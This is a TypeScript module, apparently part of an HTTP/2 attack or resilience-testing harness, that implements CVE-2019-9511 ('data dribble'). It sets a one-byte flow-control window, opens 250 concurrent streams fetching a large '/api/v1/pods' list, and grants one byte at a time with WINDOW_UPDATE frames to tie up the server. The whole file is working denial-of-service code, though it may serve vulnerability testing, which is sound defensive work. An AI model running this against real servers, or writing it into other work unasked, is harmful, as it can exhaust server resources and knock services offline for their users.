// Answers that are taken a byte at a time: a frame, a record and a write for each.

import * as h2 from '../../harness/frames/h2-frames.ts'
import type { Attack } from '../attack.ts'
import { attackHttp2, head, request } from '../wire/http2.ts'

export const attack: Attack = {
  reference: 'CVE-2019-9511',
  does: 'opens windows of 250 lists byte by byte',
  who: ['known', 'unknown'],
  // An answer without progress is reset when its user has too many of them.
  answers: ['200', '401', '403', 'RST_STREAM REFUSED_STREAM', 'RST_STREAM INTERNAL_ERROR'],
  run: (target, signal) =>
    attackHttp2(target, signal, { settings: [[h2.INITIAL_WINDOW_SIZE, 1]] }, (connection) => {
      const list = request(head(target, 'GET', '/api/v1/pods?bytes=1000000'))
      let updates: Buffer[] = []
      let begun = false
      return {
        next() {
          if (!begun) {
            begun = true
            return connection.batch(250, list)
          }
          if (updates.length === 0) return undefined
          const bytes = Buffer.concat(updates)
          updates = []
          return bytes
        },
        data(stream) {
          updates.push(h2.windowUpdate(stream, 1))
          if (updates.length === 1) setImmediate(() => connection.wire.more())
        },
      }
    }),
}
